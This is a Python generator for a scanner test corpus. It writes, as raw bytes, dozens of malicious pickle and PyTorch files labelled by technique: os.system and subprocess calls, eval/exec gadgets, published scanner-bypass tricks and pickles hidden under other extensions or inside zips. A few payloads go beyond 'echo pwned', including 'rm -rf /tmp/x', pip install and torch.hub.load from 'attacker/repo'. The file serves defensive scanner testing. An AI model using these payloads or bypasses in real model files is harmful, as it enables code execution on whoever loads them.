"""Generate the pickle-family corpus: malicious techniques, benign checkpoints, broken files.

    python tests/data/scan/gen_pickle.py OUT_DIR

`generate(root)` writes the files and returns `(path, label, description)` samples (contract in
tests/data/scan: "malicious" must come out critical/high, "benign" must not, "broken" must give
a `.parse-error` finding). Every malicious technique is named after the public report it comes
from (picklescan / modelscan / fickling issues and advisories). Payloads are harmless
(`echo pwned`) and **everything is written as bytes**: nothing here unpickles, loads or runs
what it writes. Torch is not needed: torch-format pickles and zip layouts are written by hand
the way `torch.save` writes them (a small pickler below); numpy and joblib (dev dependencies)
write the real `.npy`/`.npz`/joblib files. Deterministic: fixed seeds and zip timestamps.
"""

from __future__ import annotations

import bz2
import io
import lzma
import os
import pickle
import random
import struct
import sys
import zipfile
import zlib
from collections.abc import Iterable
from dataclasses import dataclass, field
from pathlib import Path

Sample = tuple[str, str, str]
PAYLOAD = "echo pwned"
_DATE = (1980, 1, 1, 0, 0, 0)


# --- a small pickler that writes what CPython's and torch's picklers write ------------------
@dataclass(frozen=True)
class G:
    """A global reference `module.name`."""

    module: str
    name: str


@dataclass(frozen=True, eq=False)
class R:
    """`func(*args)` (REDUCE), then dict items (SETITEMS) and state (BUILD), like save_reduce."""

    func: object
    args: tuple[object, ...] = ()
    state: object = None
    items: tuple[tuple[object, object], ...] = ()


@dataclass(frozen=True, eq=False)
class NewObj:
    cls: object
    args: tuple[object, ...] = ()
    state: object = None


@dataclass(frozen=True, eq=False)
class PID:
    """A persistent id (torch storages): the pid object, then BINPERSID."""

    pid: object


@dataclass(frozen=True)
class Raw:
    """Opcodes written verbatim."""

    data: bytes


@dataclass
class Writer:
    proto: int
    out: bytearray = field(default_factory=bytearray)
    memo: dict[object, int] = field(default_factory=dict)

    def dump(self, obj: object, *, frame: bool = False) -> bytes:
        body = Writer(self.proto)
        body.save(obj)
        body.out += b"."
        head = bytes([0x80, self.proto]) if self.proto >= 2 else b""
        if frame and self.proto >= 4:
            head += b"\x95" + struct.pack("<Q", len(body.out))
        return head + bytes(body.out)

    # memo
    def _put(self, key: object) -> None:
        index = len(self.memo)
        self.memo[key] = index
        if self.proto >= 4:
            self.out += b"\x94"
        elif self.proto >= 1:
            self.out += b"q" + bytes([index]) if index < 256 else b"r" + struct.pack("<I", index)
        else:
            self.out += f"p{index}\n".encode()

    def _get(self, index: int) -> None:
        if self.proto >= 1:
            self.out += b"h" + bytes([index]) if index < 256 else b"j" + struct.pack("<I", index)
        else:
            self.out += f"g{index}\n".encode()

    def _memo_key(self, obj: object) -> object:
        if isinstance(obj, str):
            return ("s", obj)
        if isinstance(obj, G):
            return ("g", obj.module, obj.name)
        return ("id", id(obj))

    def save(self, obj: object) -> None:  # noqa: PLR0912 - one branch per type
        key = self._memo_key(obj)
        if key in self.memo:
            self._get(self.memo[key])
            return
        out = self.out
        p = self.proto
        if isinstance(obj, Raw):
            out += obj.data
        elif obj is None:
            out += b"N"
        elif isinstance(obj, bool):
            out += (b"\x88" if obj else b"\x89") if p >= 2 else (b"I01\n" if obj else b"I00\n")
        elif isinstance(obj, int):
            if p == 0:
                small = -(2**31) <= obj < 2**31
                out += f"I{obj}\n".encode() if small else f"L{obj}L\n".encode()
            elif 0 <= obj < 256:
                out += b"K" + bytes([obj])
            elif 0 <= obj < 65536:
                out += b"M" + struct.pack("<H", obj)
            elif -(2**31) <= obj < 2**31:
                out += b"J" + struct.pack("<i", obj)
            elif p >= 2:
                data = obj.to_bytes((obj.bit_length() + 8) // 8, "little", signed=True)
                out += b"\x8a" + bytes([len(data)]) + data
            else:
                out += f"L{obj}L\n".encode()
        elif isinstance(obj, float):
            out += b"G" + struct.pack(">d", obj) if p >= 1 else f"F{obj!r}\n".encode()
        elif isinstance(obj, str):
            data = obj.encode("utf-8", "surrogatepass")
            if p >= 4 and len(data) < 256:
                out += b"\x8c" + bytes([len(data)]) + data
            elif p >= 1:
                out += b"X" + struct.pack("<I", len(data)) + data
            else:
                text = (
                    obj.replace("\\", "\\u005c")
                    .replace("\0", "\\u0000")
                    .replace("\n", "\\u000a")
                    .replace("\r", "\\u000d")
                )
                out += b"V" + text.encode("raw-unicode-escape") + b"\n"
            self._put(key)
        elif isinstance(obj, bytes):
            if p >= 3:
                if len(obj) < 256:
                    out += b"C" + bytes([len(obj)]) + obj
                else:
                    out += b"B" + struct.pack("<I", len(obj)) + obj
                self._put(key)
            elif not obj:
                self.save(R(G("builtins", "bytes")))
            else:
                self.save(R(G("_codecs", "encode"), (obj.decode("latin-1"), "latin1")))
        elif isinstance(obj, G):
            module = "__builtin__" if p < 3 and obj.module == "builtins" else obj.module
            if p >= 4:
                self.save(module)
                self.save(obj.name)
                out += b"\x93"
            else:
                out += f"c{module}\n{obj.name}\n".encode()
            self._put(key)
        elif isinstance(obj, tuple):
            if not obj:
                out += b")" if p >= 1 else b"(t"
                return
            if p >= 2 and len(obj) <= 3:
                for item in obj:
                    self.save(item)
                out += bytes([0x84 + len(obj)])
            else:
                out += b"("
                for item in obj:
                    self.save(item)
                out += b"t"
            self._put(key)
        elif isinstance(obj, list):
            if p == 0:
                out += b"(l"
                self._put(key)
                for item in obj:
                    self.save(item)
                    out += b"a"
                return
            out += b"]"
            self._put(key)
            self._batch(obj, b"a", b"e")
        elif isinstance(obj, dict):
            if p == 0:
                out += b"(d"
                self._put(key)
                for k, v in obj.items():
                    self.save(k)
                    self.save(v)
                    out += b"s"
                return
            out += b"}"
            self._put(key)
            self._batch_items(tuple(obj.items()))
        elif isinstance(obj, set):
            if p >= 4:
                out += b"\x8f"
                self._put(key)
                out += b"("
                for item in sorted(obj, key=repr):
                    self.save(item)
                out += b"\x90"
            else:
                self.save(R(G("builtins", "set"), (sorted(obj, key=repr),)))
        elif isinstance(obj, R):
            self.save(obj.func)
            self.save(obj.args)
            out += b"R"
            self._put(key)
            self._batch_items(obj.items)
            if obj.state is not None:
                self.save(obj.state)
                out += b"b"
        elif isinstance(obj, NewObj):
            self.save(obj.cls)
            self.save(obj.args)
            out += b"\x81"
            self._put(key)
            if obj.state is not None:
                self.save(obj.state)
                out += b"b"
        elif isinstance(obj, PID):
            self.save(obj.pid)
            out += b"Q"
        else:
            raise TypeError(f"cannot write {type(obj).__name__}")

    def _batch(self, items: list[object], one: bytes, many: bytes) -> None:
        for start in range(0, len(items), 1000):
            batch = items[start : start + 1000]
            if len(batch) == 1:
                self.save(batch[0])
                self.out += one
            else:
                self.out += b"("
                for item in batch:
                    self.save(item)
                self.out += many

    def _batch_items(self, items: tuple[tuple[object, object], ...]) -> None:
        for start in range(0, len(items), 1000):
            batch = items[start : start + 1000]
            if len(batch) == 1:
                self.save(batch[0][0])
                self.save(batch[0][1])
                self.out += b"s"
            elif batch:
                self.out += b"("
                for k, v in batch:
                    self.save(k)
                    self.save(v)
                self.out += b"u"


def dumps(obj: object, proto: int = 4, *, frame: bool = False) -> bytes:
    return Writer(proto).dump(obj, frame=frame)


def call(module: str, name: str, *args: object) -> R:
    return R(G(module, name), tuple(args))


# --- torch.save, by hand ---------------------------------------------------------------------
_ITEMSIZE = {"FloatStorage": 4, "HalfStorage": 2, "BFloat16Storage": 2, "LongStorage": 8}


@dataclass
class Storages:
    """Storage keys and bytes, as torch's persistent_id hands them out."""

    legacy: bool = False
    data: dict[str, bytes] = field(default_factory=dict)
    rng: random.Random = field(default_factory=lambda: random.Random(1234))

    def tensor(
        self, shape: tuple[int, ...], storage: str = "FloatStorage", *, grad: bool = False
    ) -> R:
        numel = 1
        for n in shape:
            numel *= n
        stride = tuple(_prod(shape[i + 1 :]) for i in range(len(shape)))
        key = str(len(self.data)) if not self.legacy else str(94_000_000 + len(self.data))
        self.data[key] = bytes(self.rng.getrandbits(8) for _ in range(numel * _ITEMSIZE[storage]))
        pid: tuple[object, ...] = ("storage", G("torch", storage), key, "cpu", numel)
        if self.legacy:
            pid = (*pid, None)
        hooks = R(G("collections", "OrderedDict"))
        return R(G("torch._utils", "_rebuild_tensor_v2"), (PID(pid), 0, shape, stride, grad, hooks))

    def parameter(self, shape: tuple[int, ...], storage: str = "FloatStorage") -> R:
        hooks = R(G("collections", "OrderedDict"))
        return R(
            G("torch._utils", "_rebuild_parameter"), (self.tensor(shape, storage), True, hooks)
        )


def _prod(shape: Iterable[int]) -> int:
    total = 1
    for n in shape:
        total *= n
    return total


def state_dict(
    s: Storages, layers: Iterable[tuple[str, tuple[int, ...]]], storage: str = "FloatStorage"
) -> R:
    items = tuple((name, s.tensor(shape, storage)) for name, shape in layers)
    prefixes = sorted({name.rsplit(".", 1)[0] for name, _ in items} | {""})
    metadata = R(
        G("collections", "OrderedDict"), items=tuple((p, {"version": 1}) for p in prefixes)
    )
    return R(G("collections", "OrderedDict"), state={"_metadata": metadata}, items=items)


MLP = (("fc1.weight", (8, 4)), ("fc1.bias", (8,)), ("fc2.weight", (2, 8)), ("fc2.bias", (2,)))


def adam_state(s: Storages) -> dict[object, object]:
    return {
        "state": {
            i: {"step": s.tensor(()), "exp_avg": s.tensor(shape), "exp_avg_sq": s.tensor(shape)}
            for i, (_, shape) in enumerate(MLP)
        },
        "param_groups": [
            {
                "lr": 0.001,
                "betas": (0.9, 0.999),
                "eps": 1e-08,
                "weight_decay": 0,
                "amsgrad": False,
                "maximize": False,
                "foreach": None,
                "capturable": False,
                "differentiable": False,
                "fused": None,
                "params": [0, 1, 2, 3],
            }
        ],
    }


def _zip_write(path: Path, members: Iterable[tuple[str, bytes]], *, deflate: bool = False) -> None:
    method = zipfile.ZIP_DEFLATED if deflate else zipfile.ZIP_STORED
    with zipfile.ZipFile(path, "w", method) as zf:
        for name, data in members:
            info = zipfile.ZipInfo(name, date_time=_DATE)
            info.compress_type = method
            zf.writestr(info, data)


def torch_zip(
    path: Path,
    data_pkl: bytes,
    storages: Storages,
    *,
    archive: str | None = None,
    extra: Iterable[tuple[str, bytes]] = (),
) -> None:
    """The torch.save zip layout: <archive>/data.pkl, data/<key>, version, byteorder…"""
    folder = archive or path.stem
    members = [
        (f"{folder}/data.pkl", data_pkl),
        (f"{folder}/.format_version", b"1"),
        (f"{folder}/.storage_alignment", b"64"),
        (f"{folder}/byteorder", b"little"),
        *((f"{folder}/data/{key}", blob) for key, blob in storages.data.items()),
        *extra,
        (f"{folder}/version", b"3\n"),
        (f"{folder}/.data/serialization_id", b"1234567890123456789012345678901234567890"),
    ]
    _zip_write(path, members)


def torch_legacy(path: Path, obj: object, storages: Storages, proto: int = 2) -> None:
    """Pre-1.6 torch.save: five pickles (magic, protocol, sys info, object, keys), then storages."""
    parts = [
        dumps(0x1950A86A20F9469CFC6C, proto),
        dumps(1001, proto),
        dumps(
            {
                "protocol_version": 1001,
                "little_endian": True,
                "type_sizes": {"short": 2, "int": 4, "long": 4},
            },
            proto,
        ),
        dumps(obj, proto),
        dumps(list(storages.data), proto),
    ]
    for blob in storages.data.values():
        parts.append(struct.pack("<q", len(blob) // 4) + blob)
    path.write_bytes(b"".join(parts))


def _set_zip_flag(path: Path, member: str, bit: int) -> None:
    """Set a general-purpose flag bit on one member, in its local and central headers."""
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as zf:
        info = zf.getinfo(member)
    local = info.header_offset
    data[local + 6 : local + 8] = struct.pack("<H", info.flag_bits | bit)
    pos = data.find(b"PK\x01\x02")
    while pos >= 0:
        name_len = struct.unpack_from("<H", data, pos + 28)[0]
        if data[pos + 46 : pos + 46 + name_len] == member.encode():
            data[pos + 8 : pos + 10] = struct.pack("<H", info.flag_bits | bit)
        pos = data.find(b"PK\x01\x02", pos + 4)
    path.write_bytes(bytes(data))


# --- malicious streams -----------------------------------------------------------------------
def _system(module: str = "os") -> R:
    return call(module, "system", PAYLOAD)


def _stack_global_from_memo() -> bytes:
    # strings memoized first, fetched back with BINGET for STACK_GLOBAL (modelscan/picklescan
    # memo-resolution bypasses)
    return (
        b"\x80\x04\x8c\x02os\x94\x8c\x06system\x94\x8c\x05hello\x94"
        b"h\x00h\x01\x93\x94\x8c" + bytes([len(PAYLOAD)]) + PAYLOAD.encode() + b"\x85R."
    )


def _memo_confusion() -> bytes:
    # picklescan #14: BINPUT fills indices 0 and 1 with "os"/"system"; MEMOIZE then stores the
    # decoy strings at len(memo) = 2 and 3, while a naive scanner counting MEMOIZE from 0
    # believes memo[0], memo[1] hold "torch._utils"/"_rebuild_tensor_v2".
    return (
        b"\x80\x04\x8c\x02osq\x00\x8c\x06systemq\x01"
        b"\x8c\x0ctorch._utils\x94\x8c\x12_rebuild_tensor_v2\x94"
        b"0000h\x00h\x01\x93" + b"\x8c" + bytes([len(PAYLOAD)]) + PAYLOAD.encode() + b"\x85R."
    )


def _unicode_variants() -> bytes:
    # module via BINUNICODE8, name via protocol-0 UNICODE, payload via BINUNICODE
    return (
        b"\x80\x04\x8d" + struct.pack("<Q", 10) + b"subprocess"
        b"Vcheck_output\n\x93"
        b"]\x94(\x8c\x04echo\x8c\x05pwnede\x85R."
    )


def _protocol0_text() -> bytes:
    return f"cos\nsystem\n(S'{PAYLOAD}'\ntR.".encode()


def _inst_eval() -> bytes:
    # picklescan #13 / modelscan #51: INST imports and calls in one opcode
    return b'(S\'__import__("os").system("echo pwned")\'\ni__builtin__\neval\n.'


def _obj_exec() -> bytes:
    return b"(cbuiltins\nexec\nX\x1f\x00\x00\x00__import__('os').system('echo')o."


def _text_prefix() -> bytes:
    # first bytes read like a README; POP discards them and the payload follows
    note = "This model card describes a tiny MLP trained on MNIST. License: MIT."
    return f"S'{note}'\n0cposix\nsystem\n(S'{PAYLOAD}'\ntR.".encode()


def _ext1() -> bytes:
    # modelaudit #623: EXT1 fetches a callable from copyreg's extension registry
    return b"\x80\x02\x82\x01(X\x0a\x00\x00\x00echo pwnedtR."


def _build_setattr_module() -> bytes:
    # modelscan #85: BUILD sets numpy.prod.a = "os", .b = "system"; STACK_GLOBAL then takes
    # module/name from GLOBALs of those attributes via the memo.
    p = b"\x80\x05cnumpy\nprod\n"
    p += b"N(Va\nVos\nd\x86b"
    p += b"N(Vb\nVsystem\nd\x86b0"
    p += b"cnumpy\nprod.a\np0\ncnumpy\nprod.b\np1\n00g0\ng1\n\x93"
    p += f"V{PAYLOAD}\n".encode() + b"\x85R."
    return p


def _numpy_builtins_get() -> bytes:
    # modelscan #89 PoC 1: builtins.dict.get(numpy.__builtins__, "exec")(…)
    return (
        b"\x80\x05cbuiltins\ndict.get\ncnumpy\n__builtins__\nVexec\n\x86R"
        b"V__import__('os').system('echo pwned')\n\x85R."
    )


def _numpy_size_builtins() -> bytes:
    # modelscan #330: BUILD puts numpy.__builtins__ into numpy.size's state, then
    # numpy.size(numpy.size, "eval") yields eval and a second REDUCE calls it
    code = b'__import__("os").system("echo pwned")'
    return (
        b"\x80\x04\x8c\x05numpy\x8c\x04size\x93\x94\x94"
        b"\x8c\x05numpy\x8c\x0c__builtins__\x93\x94\x94"
        b"h\x01}}\x8c\x05shapeh\x03s\x86b"
        b"h\x01h\x01\x8c\x04eval\x86R"
        b"\x8c" + bytes([len(code)]) + code + b"\x85R."
    )


def _stack_global_bytes() -> bytes:
    # modelscan #338: non-str STACK_GLOBAL operands (bytes) to crash type-naive scanners
    return b"\x80\x04C\x02os\x8c\x06system\x93\x8c\x0aecho pwned\x85R."


def _setstate_injection() -> bytes:
    # BUILD with a slot-state dict that plants __setstate__ = os.system on an object, then a
    # second BUILD calls it with the payload
    return (
        b"\x80\x04\x8c\x08argparse\x8c\tNamespace\x93)\x81"
        b"N}\x8c\x0c__setstate__\x8c\x02os\x8c\x06system\x93s\x86b"
        b"\x8c\x0aecho pwnedb."
    )


def _dotted_escape() -> bytes:
    # fickling GHSA-5j3x-jp52-966f: STACK_GLOBAL "pathlib" "os.system"
    return b"\x80\x04\x8c\x07pathlib\x8c\tos.system\x93\x8c\x0aecho pwned\x85R."


def _binpersid_payload() -> bytes:
    # the persistent id tuple itself carries a REDUCE os.system (it runs before
    # persistent_load is ever asked)
    inner = dumps(_system(), 2)[2:-1]
    return b"\x80\x02(X\x07\x00\x00\x00storage" + inner + b"tQ."


_TRAIN_CONFIG = G("my_project.config", "TrainConfig")


def project_class_streams() -> dict[str, tuple[bytes, str]]:
    """A project's own classes, as pickle writes them: not evidence of an attack (medium)."""
    state = {"lr": 0.001, "epochs": 3, "features": ["age", "income"]}
    return {
        "project_class.pkl": (
            dumps({"config": NewObj(_TRAIN_CONFIG, state=state), "weights": [0.5, 0.25]}, 4),
            "a project's own class (NEWOBJ + BUILD, protocol 4): medium, not high",
        ),
        "project_class_p2.pkl": (
            dumps(
                R(
                    G("copy_reg", "_reconstructor"),
                    (_TRAIN_CONFIG, G("__builtin__", "object"), None),
                    state=state,
                ),
                2,
            ),
            "a project's own class through copyreg._reconstructor (protocols 0-1 style): medium",
        ),
        "project_function_ref.pkl": (
            dumps({"transform": G("my_project.features", "log_income")}, 4),
            "a project's function stored as a value, never called: medium",
        ),
    }


def malicious_streams() -> dict[str, tuple[bytes, str]]:
    getattr_chain = R(
        G("builtins", "getattr"),
        (call("builtins", "__import__", "os"), "system"),
    )
    importlib_chain = R(
        G("builtins", "getattr"), (call("importlib", "import_module", "os"), "system")
    )
    code = compile("print('pwned')", "<payload>", "exec")
    import marshal

    code_bytes = marshal.dumps(code)
    inner = dumps(_system(), 2)
    return {
        "reduce_os_system.pkl": (dumps(_system("os"), 4), "REDUCE os.system (the classic)"),
        # A project's own class is medium on its own (issue 17): beside a dangerous call it is
        # part of the payload, and an unknown *function* called with arguments is still high.
        "project_class_with_system.pkl": (
            dumps(NewObj(_TRAIN_CONFIG, state={"lr": 0.1, "hook": _system()}), 4),
            "a project class whose state REDUCEs os.system (the class alone is only medium)",
        ),
        "project_function_called.pkl": (
            dumps(R(G("my_project.hooks", "on_load"), ("rm -rf /tmp/x",)), 4),
            "an unknown function called with arguments (REDUCE): a code path that executes",
        ),
        "posix_system.pkl": (
            dumps(_system("posix"), 2),
            "posix.system, as pickle writes os.system on Linux",
        ),
        "nt_system.pkl": (
            dumps(_system("nt"), 2),
            "nt.system, as pickle writes os.system on Windows",
        ),
        "subprocess_popen.pkl": (
            dumps(call("subprocess", "Popen", ["echo", "pwned"]), 3),
            "subprocess.Popen",
        ),
        "subprocess_binunicode8.pkl": (
            _unicode_variants(),
            "STACK_GLOBAL from BINUNICODE8 + protocol-0 UNICODE strings",
        ),
        "builtins_eval_inst.pkl": (
            _inst_eval(),
            "INST __builtin__.eval (picklescan #13, modelscan #51)",
        ),
        "builtins_exec_obj.pkl": (_obj_exec(), "OBJ builtins.exec (protocol 1)"),
        "stack_global_memo.pkl": (
            _stack_global_from_memo(),
            "STACK_GLOBAL operands from the memo (BINGET)",
        ),
        "memo_put_memoize_confusion.pkl": (
            _memo_confusion(),
            "mixed BINPUT/MEMOIZE memo confusion (picklescan #14)",
        ),
        "protocol0_text.pkl": (_protocol0_text(), "protocol 0 text pickle"),
        "py2_builtin_apply.pkl": (
            dumps(call("__builtin__", "apply", G("os", "system"), (PAYLOAD,)), 2),
            "__builtin__.apply (py2 names, picklescan)",
        ),
        "nested_pickle_loads.pkl": (
            dumps(call("pickle", "loads", inner), 2),
            "nested pickle.loads(_codecs.encode(...)) (picklescan #25)",
        ),
        "nested__pickle_loads.pkl": (
            dumps(call("_pickle", "loads", inner), 4),
            "nested _pickle.loads (modelscan #267/#270)",
        ),
        "marshal_functiontype.pkl": (
            dumps(
                R(
                    R(G("types", "FunctionType"), (call("marshal", "loads", code_bytes), {})),
                    (),
                ),
                4,
            ),
            "types.FunctionType(marshal.loads(code)) (picklescan #74)",
        ),
        "functools_partial.pkl": (
            dumps(R(call("functools", "partial", G("os", "system"), PAYLOAD), ()), 4),
            "functools.partial wrapper around os.system",
        ),
        "operator_attrgetter.pkl": (
            dumps(
                R(
                    R(
                        call("operator", "attrgetter", "system"),
                        (call("builtins", "__import__", "os"),),
                    ),
                    (PAYLOAD,),
                ),
                4,
            ),
            "operator.attrgetter('system')(__import__('os')) (picklescan #25 comment)",
        ),
        "operator_methodcaller.pkl": (
            dumps(
                R(
                    call("operator", "methodcaller", "system", PAYLOAD),
                    (call("importlib", "import_module", "os"),),
                ),
                4,
            ),
            "operator.methodcaller on importlib.import_module('os')",
        ),
        "getattr_import_chain.pkl": (
            dumps(R(getattr_chain, (PAYLOAD,)), 4),
            "builtins.getattr(builtins.__import__('os'), 'system') (petastorm #741)",
        ),
        "importlib_getattr_chain.pkl": (
            dumps(R(importlib_chain, (PAYLOAD,)), 4),
            "importlib.import_module + getattr chain (modelscan #331, picklescan #66)",
        ),
        "runpy_run_code.pkl": (
            dumps(call("runpy", "_run_code", "import os; os.system('echo pwned')", {}), 4),
            "runpy._run_code",
        ),
        "code_interactive_runcode.pkl": (
            dumps(
                call(
                    "code",
                    "InteractiveInterpreter.runcode",
                    call("code", "InteractiveInterpreter"),
                    "import os",
                ),
                4,
            ),
            "code.InteractiveInterpreter.runcode (picklescan advisories)",
        ),
        "pdb_run.pkl": (dumps(call("pdb", "run", "import os"), 2), "pdb.run (picklescan PR #29)"),
        "bdb_run.pkl": (
            dumps(call("bdb", "Bdb.run", call("bdb", "Bdb"), "import os"), 4),
            "bdb.Bdb.run (picklescan PR #29)",
        ),
        "timeit_timeit.pkl": (
            dumps(call("timeit", "timeit", "__import__('os').system('echo pwned')"), 4),
            "timeit.timeit (picklescan PR #40)",
        ),
        "cprofile_run.pkl": (
            dumps(call("cProfile", "runctx", "import os", {}, {}), 4),
            "cProfile.runctx (GHSA-9w88-8rmg-7g2p)",
        ),
        "trace_runctx.pkl": (
            dumps(call("trace", "Trace.runctx", call("trace", "Trace"), "import os"), 4),
            "trace.Trace.runctx (GHSA-g344-hcph-8vgg)",
        ),
        "pydoc_locate.pkl": (
            dumps(R(call("pydoc", "locate", "os.system"), (PAYLOAD,)), 4),
            "pydoc.locate('os.system')(…) — indirect call",
        ),
        "pkgutil_resolve_name.pkl": (
            dumps(R(call("pkgutil", "resolve_name", "os:system"), (PAYLOAD,)), 4),
            "pkgutil.resolve_name universal bypass (GHSA-vvpj-8cmc-gx39)",
        ),
        "ctypes_cdll.pkl": (
            dumps(call("ctypes", "CDLL", None), 4),
            "ctypes.CDLL (modelscan PR #339)",
        ),
        "webbrowser_open.pkl": (
            dumps(call("webbrowser", "open", "http://127.0.0.1:9/pwned"), 4),
            "webbrowser.open (modelaudit PR #243)",
        ),
        "shutil_rmtree.pkl": (
            dumps(call("shutil", "rmtree", "/nonexistent-sumun-corpus"), 4),
            "shutil.rmtree (picklescan PR #29)",
        ),
        "asyncio_subprocess_shell.pkl": (
            dumps(call("asyncio", "create_subprocess_shell", PAYLOAD), 4),
            "asyncio.create_subprocess_shell",
        ),
        "pty_spawn.pkl": (dumps(call("pty", "spawn", PAYLOAD), 2), "pty.spawn"),
        "idlelib_runcode.pkl": (
            dumps(call("idlelib.pyshell", "ModifiedInterpreter.runcode", None, "import os"), 4),
            "idlelib.pyshell.ModifiedInterpreter.runcode (GHSA-3gf5-cxq9-w223)",
        ),
        "lib2to3_make_label.pkl": (
            dumps(call("lib2to3.pgen2.pgen", "ParserGenerator.make_label", None, None, "os"), 4),
            "lib2to3.pgen2.pgen.ParserGenerator.make_label (GHSA-p9w7-82w4-7q8m)",
        ),
        "ensurepip_run_pip.pkl": (
            dumps(call("ensurepip", "_run_pip", ["install", "pwned"]), 4),
            "ensurepip._run_pip (GHSA-xp4f-hrf8-rxw7)",
        ),
        "doctest_debug_script.pkl": (
            dumps(call("doctest", "debug_script", "import os"), 4),
            "doctest.debug_script (GHSA-fqq6-7vqf-w3fg)",
        ),
        "pip_main.pkl": (
            dumps(call("pip", "main", ["install", "pwned"]), 4),
            "pip.main (CVE-2025-1716)",
        ),
        "mailcap_findmatch.pkl": (
            dumps(
                call("mailcap", "findmatch", {"text/plain": [{"test": PAYLOAD}]}, "text/plain"), 4
            ),
            "mailcap.findmatch (modelscan PR #346)",
        ),
        "signal_raise.pkl": (
            dumps(call("signal", "raise_signal", 9), 4),
            "signal.raise_signal (modelscan PR #339)",
        ),
        "torch_hub_load.pkl": (
            dumps(call("torch.hub", "load", "attacker/repo", "model"), 2),
            "torch.hub.load nested code download",
        ),
        "torch_bottleneck.pkl": (
            dumps(call("torch.utils.bottleneck.__main__", "run_cprofile", "import os", {}), 4),
            "torch.utils.bottleneck.__main__.run_cprofile (GHSA-4r9r)",
        ),
        "numpy_load_nested.pkl": (
            dumps(call("numpy", "load", "payload.npy", None, True), 4),
            "numpy.load(allow_pickle=True) nested",
        ),
        "zlib_obfuscated_loads.pkl": (
            dumps(call("pickle", "loads", call("zlib", "decompress", zlib.compress(inner))), 4),
            "pickle.loads(zlib.decompress(...)) obfuscation (modelscan #338)",
        ),
        "scanner_tamper.pkl": (
            dumps(call("picklescan.scanner", "scan_pickle_bytes", b""), 4),
            "imports a pickle scanner (fickling PR #249 scanner deactivation)",
        ),
        "numpy_builtins_dict_get.pkl": (
            _numpy_builtins_get(),
            "numpy.__builtins__ + dict.get (modelscan #89)",
        ),
        "numpy_sys_modules.pkl": (
            b"\x80\x05cnumpy\nprod\nNcnumpy\ncore._internal.sys.modules\n\x86b0"
            b"cnumpy\nprod.os.system\nVecho pwned\n\x85R.",
            "numpy.core._internal.sys.modules via BUILD (modelscan #89 PoC 2)",
        ),
        "numpy_size_builtins.pkl": (
            _numpy_size_builtins(),
            "numpy.size/__builtins__ BUILD + REDUCE (modelscan #330)",
        ),
        "build_setattr_module.pkl": (
            _build_setattr_module(),
            "BUILD on numpy.prod + STACK_GLOBAL from memo (modelscan #85)",
        ),
        "dotted_attribute_escape.pkl": (
            _dotted_escape(),
            "STACK_GLOBAL 'pathlib' 'os.system' (fickling GHSA-5j3x)",
        ),
        "stack_global_bytes_operand.pkl": (
            _stack_global_bytes(),
            "STACK_GLOBAL with a bytes operand (modelscan #338)",
        ),
        "setstate_injection.pkl": (_setstate_injection(), "BUILD plants __setstate__ = os.system"),
        "ext1_registry.pkl": (
            _ext1(),
            "EXT1 copyreg extension registry + REDUCE (modelaudit #623)",
        ),
        "ext2_registry.pkl": (
            b"\x80\x02\x83\x01\x02X\x0a\x00\x00\x00echo pwned\x85R.",
            "EXT2 copyreg extension registry + REDUCE",
        ),
        "binpersid_payload.pkl": (
            _binpersid_payload(),
            "payload inside a BINPERSID persistent-id tuple",
        ),
        "text_prefix.pkl": (_text_prefix(), "a pickle whose first bytes read like text"),
        "appended_after_stop.pkl": (
            dumps({"weights": [0.1, 0.2]}, 4) + dumps(_system("posix"), 4),
            "second pickle appended after STOP",
        ),
    }


# --- files ---------------------------------------------------------------------------------------
class _Evil:
    """A dummy whose pickle calls os.system: only ever *pickled* (written), never loaded."""

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return (os.system, (PAYLOAD,))


def _gzip_deterministic(path: Path) -> None:
    data = bytearray(path.read_bytes())
    if data[:2] == b"\x1f\x8b":
        data[4:8] = b"\x00\x00\x00\x00"  # mtime
        path.write_bytes(bytes(data))


def _npy(array: object, *, version: tuple[int, int] | None = None) -> bytes:
    import numpy as np

    buf = io.BytesIO()
    np.lib.format.write_array(buf, np.asanyarray(array), version=version, allow_pickle=True)
    return buf.getvalue()


def _npy_raw(header: dict[str, object], data: bytes) -> bytes:
    text = repr(header)
    pad = 64 - (10 + len(text) + 1) % 64
    text += " " * pad + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(text)) + text.encode("latin-1") + data


def _write_malicious(root: Path, out: list[Sample]) -> None:
    base = root / "malicious"
    base.mkdir(parents=True, exist_ok=True)
    for name, (data, technique) in malicious_streams().items():
        (base / name).write_bytes(data)
        out.append((f"malicious/{name}", "malicious", technique))

    evil = dumps(_system(), 4)
    for name, technique in (
        ("hidden_pickle.bin", "pickle hidden under a .bin extension (GHSA-769v-p64c-89pr)"),
        ("hidden_pickle.jpg", "pickle hidden under a .jpg extension (CVE-2025-1889)"),
        ("hidden_pickle.safetensors", "pickle hidden under a .safetensors extension"),
    ):
        (base / name).write_bytes(evil)
        out.append((f"malicious/{name}", "malicious", technique))

    s = Storages()
    sd = state_dict(s, MLP)
    payload_sd = R(
        G("collections", "OrderedDict"),
        items=(*sd.items, ("backdoor", _system("posix"))),
        state=sd.state,
    )
    torch_zip(base / "torch_zip_payload.pt", dumps(payload_sd, 2), s)
    out.append(
        ("malicious/torch_zip_payload.pt", "malicious", "malicious data.pkl in a PyTorch zip")
    )

    s = Storages()
    torch_zip(base / "torch_zip_flagbit.pt", dumps(payload_sd, 2), s)
    folder = "torch_zip_flagbit"
    _set_zip_flag(base / "torch_zip_flagbit.pt", f"{folder}/data.pkl", 0x1)
    out.append(
        (
            "malicious/torch_zip_flagbit.pt",
            "malicious",
            "zip 'encrypted' flag bit set on data.pkl: zipfile refuses, torch reads (GHSA-w8jq)",
        )
    )

    s = Storages()
    torch_zip(
        base / "torch_zip_hidden_member.pt",
        dumps(state_dict(s, MLP), 2),
        s,
        extra=[("torch_zip_hidden_member/extra/config", evil)],
    )
    out.append(
        (
            "malicious/torch_zip_hidden_member.pt",
            "malicious",
            "pickle hidden in a non-.pkl member (modelaudit #1043)",
        )
    )

    s = Storages(legacy=True)
    torch_legacy(
        base / "legacy_payload.pt", {"state_dict": state_dict(s, MLP), "hook": _system("posix")}, s
    )
    out.append(
        ("malicious/legacy_payload.pt", "malicious", "legacy torch.save: payload in the 4th pickle")
    )

    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr(zipfile.ZipInfo("model/data.pkl", date_time=_DATE), dumps({"w": 1.0}, 2))
    (base / "polyglot_pickle_zip.pt").write_bytes(evil + buf.getvalue())
    out.append(("malicious/polyglot_pickle_zip.pt", "malicious", "pickle/zip polyglot"))

